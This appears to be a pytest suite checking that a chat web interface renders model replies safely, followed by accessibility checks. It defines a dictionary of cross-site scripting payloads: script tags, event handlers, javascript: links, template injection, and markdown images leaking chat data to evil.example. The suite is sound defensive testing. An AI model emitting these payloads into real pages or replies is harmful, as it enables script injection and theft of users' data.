"""What a model writes does nothing but be read, and everybody can read it.

python -m pytest tests/serve/test_page_safety.py
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from browser import Chat, visit
from playwright.sync_api import Browser, expect
from scene import talk, tools
from stub import Stub, calls, text

TAKEN = "window.taken=true"  # without a blank, which would end an address
SCRIPT = f"<script>{TAKEN}; alert(1)</script>"
HOSTILE = {
    "script": SCRIPT,
    "script in a paragraph": f"a {SCRIPT} b",
    "handler": f'<img src=x onerror="{TAKEN}"> <body onload="{TAKEN}"> <details open ontoggle="{TAKEN}">',
    "svg": f'<svg onload="{TAKEN}"><a xlink:href="javascript:{TAKEN}"><text>x</text></a></svg>',
    "frame": f'<iframe src="javascript:{TAKEN}"></iframe><iframe srcdoc="{SCRIPT}"></iframe><object data="https://evil.example">',
    "markup that loads": '<link rel=stylesheet href=https://evil.example/a.css><style>@import "https://evil.example/b"</style><base href=https://evil.example>',
    "form": f'<form action="https://evil.example"><button formaction="javascript:{TAKEN}">press</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "image": "![a](https://evil.example/?chat=secret) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c][r]\n\n[r]: https://evil.example/r.png",
    "javascript link": f"[a](javascript:{TAKEN}) [b](JaVaScRiPt:{TAKEN}) [c](java\tscript:{TAKEN}) <javascript:{TAKEN}> [d](&#106;avascript:{TAKEN})",
    "other schemes": "[a](data:text/html,<script>1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) [e](//evil.example) [f](/v1/models)",
    "link with quotes": f'[a](https://a.example/"onmouseover="{TAKEN}) [b](<https://b.example/" onclick="{TAKEN}"> "\'><script>")',
    "reference": f"[a][r] [r]\n\n[r]: javascript:{TAKEN}",
    "nested markdown": f"**[![x](javascript:{TAKEN})](javascript:{TAKEN})** | [`{SCRIPT}`](javascript:1)",
    "code": f'```"><script>{TAKEN}</script>\n{SCRIPT}\n```\n\n`{SCRIPT}`',
    "table": f"| {SCRIPT} |\n|---|\n| <img src=x onerror={TAKEN}> |",
    "entities": f"&lt;script&gt;{TAKEN}&lt;/script&gt; &#60;img src=x onerror={TAKEN}&#62; &#x202e; &#0; &#xD800; &#9999999;",
    "unclosed fence": f"````\n{SCRIPT}\n```\n",
    "unclosed everything": '[a](https://a.example **b `c <d "e\n\n- [ \n> ```',
    "ANSI": "\x1b[31mred\x1b]0;title\x07\x1b[2J\x9b31m\x00\x7f",
    "bidi": "user\u202e \u2066// admin\u2069 \u2066 begin",
    "closing tags": f"</div></article></main></body></html>-->]]>{SCRIPT}",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "names of the page": "<a id=log name=log>x</a> <form id=box name=body><input name=innerHTML></form> __proto__ constructor",
    "deep quotes": "> " * 3000 + "x",
    "quotes, less deep": "> " * 400 + "x",
    "deep lists": "- " * 3000 + "x",
    "deep emphasis": "**a " * 2000 + "**" * 2000,
    "brackets": "[" * 20_000 + "![" * 10_000,
    "emphasis in each other": "**a* " * 8000,
    "addresses in each other": "a." * 20_000 + "@",
    "long line": "x" * 1_000_000,
    "long line of words": "word " * 200_000,
}


@pytest.fixture(scope="module")
def reader(browser: Browser, served: Stub) -> Iterator[Chat]:
    served.reset()
    with visit(browser, served) as opened:
        yield opened


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_replies_do_nothing(reader: Chat, name: str) -> None:
    written, stub = HOSTILE[name], reader.stub
    reader.button("New chat").click()
    expect(reader.answers).to_have_count(0)
    # as a reply in pieces, as thinking, and as the user's own words
    steps = text(written, thinking=written[:2000], size=max(7, len(written) // 40))
    stub.script(*steps)
    answer = reader.ask(written[:200_000].replace("\x00", ""))
    prose = answer.locator(".prose")
    assert (
        prose.evaluate(
            "node => [...node.querySelectorAll('script, img, svg, iframe, object, embed, link, style, form, base, meta, input, video')].length"
        )
        == 0
    )
    assert (
        prose.evaluate(
            "node => [...node.querySelectorAll('*')].flatMap(one => [...one.attributes]).filter(a => /^on|^src|^style|^id$|^name$/.test(a.name)).length"
        )
        == 0
    )
    deepest = """node => { let deep = 0; for (const one of node.querySelectorAll('*')) { let n = 0;
        for (let up = one; up !== node; up = up.parentNode) n++; deep = Math.max(deep, n); } return deep; }"""
    assert prose.evaluate(deepest) < 100
    addresses = prose.evaluate("node => [...node.querySelectorAll('a')].map(a => a.protocol)")
    assert set(addresses) <= {"https:", "http:"}
    for link in prose.locator("a").all():
        link.dispatch_event("mouseover")
    shown = answer.inner_text()
    assert not set(shown) & {
        "\x1b",
        "\x00",
        "\x07",
        "\x7f",
        "\x9b",
        *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    }
    assert reader.page.evaluate("window.taken") is None
    known = {"", "v1/models", "props", "page/tools", "v1/chat/completions"}
    assert {path.removeprefix(stub.url + "/") for path in reader.paths} <= known
    reader.quiet()
    # the same again, read at once instead of in pieces
    reader.page.reload()
    expect(reader.answers).to_have_count(1)
    assert reader.page.evaluate("window.taken") is None
    reader.quiet()


def test_what_was_written_is_there_to_be_read(reader: Chat) -> None:
    reader.button("New chat").click()
    steps = text(f"{SCRIPT}\n\n![a cat](https://evil.example/c.png) [go](javascript:1) \x1b[31m a\u202eb")
    reader.stub.script(*steps)
    prose = reader.ask("show").locator(".prose")
    expect(prose).to_contain_text(SCRIPT)
    expect(prose).to_contain_text("[image: a cat] https://evil.example/c.png")
    expect(prose).to_contain_text("go (javascript:1)")
    expect(prose).to_contain_text("␛[31m a⟨U+202E⟩b")


def test_the_browser_itself_forbids_making_elements_of_text(reader: Chat) -> None:
    attempts = {
        "innerHTML": "document.body.innerHTML = '<b>x</b>'",
        "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "write": "document.write('<b>x</b>')",
        "policy": "trustedTypes.createPolicy('mine', { createHTML: text => text })",
        "eval": "(0, eval)('1')",
        "script": "document.body.append(Object.assign(document.createElement('script'), { text: 'window.taken = true' }))",
        "handler": "document.body.setAttribute('onclick', 'window.taken = true')",
    }
    for name, attempt in attempts.items():
        # a timer: what the test itself evaluates may do more than the page may
        refused = reader.page.evaluate(
            f"() => new Promise(done => setTimeout(() => {{ try {{ {attempt}; done(false); }} catch (error) {{ done(true); }} }}))"
        )
        assert refused, name
    assert reader.page.evaluate("window.taken") is None
    fetched = reader.page.evaluate("() => fetch('https://evil.example/').then(() => false, () => true)")
    style = reader.page.evaluate(
        "() => { document.body.setAttribute('style', 'color: red'); return getComputedStyle(document.body).color; }"
    )
    assert fetched and style != "rgb(255, 0, 0)"
    assert reader.elsewhere == []


# ---- axe


VIEWS: dict[str, dict[str, Any]] = {
    "light": {"color_scheme": "light"},
    "dark": {"color_scheme": "dark"},
    "phone": {"color_scheme": "light", "viewport": {"width": 390, "height": 844}, "has_touch": True},
    "phone, dark": {"color_scheme": "dark", "viewport": {"width": 390, "height": 844}, "has_touch": True},
}


@pytest.mark.parametrize("view", VIEWS)
def test_axe_finds_nothing(browser: Browser, stub: Stub, view: str) -> None:
    axe = Axe()
    stub.tools = tools()
    # what a test adds to the page would be forbidden as well
    with visit(browser, stub, bypass_csp=True, **VIEWS[view]) as chat:

        def check(what: str) -> None:
            found = axe.run(chat.page).response["violations"]
            assert [(what, one["id"], [node["html"][:150] for node in one["nodes"]]) for one in found] == []

        expect(chat.button("Tools · 2")).to_be_visible()
        check("nothing said yet")
        talk(chat)
        chat.page.locator("details.thinking summary").last.click()
        check("conversation")
        chat.button("Tools · 2").click()
        stub.script(*calls(("c1", "files__read", '{"path": "/tmp/notes.txt"}')))
        chat.say("Read my notes")
        expect(chat.button("Allow once")).to_be_visible()
        chat.page.get_by_text("What its server says of it").click()
        check("tool card")
        # two cards of one tool
        stub.script(*calls(("c1", "files__read", "{}")))
        stub.script(*text("Ok."), headers={"x-qwen3c-fallback": "connect_timeout"})
        chat.button("Always for this tool here").click()
        expect(chat.answers.last.locator(".prose")).to_have_text("Ok.")
        chat.rest()
        for summary in chat.page.locator(".tool summary").all():
            summary.click()
        stub.script(status=500, error={"message": "It broke.", "code": "server_error"})
        chat.ask("again")
        check("result and error")
        if "phone" in view:
            chat.button("Conversations").click()
            check("drawer")
        chat.button("More for What is a radix tree good for in an LLM server?").click()
        check("actions of a conversation")
        chat.button("delete").click()
        check("question")
        chat.button("Cancel").click()
        chat.button("Settings").click()
        check("settings")
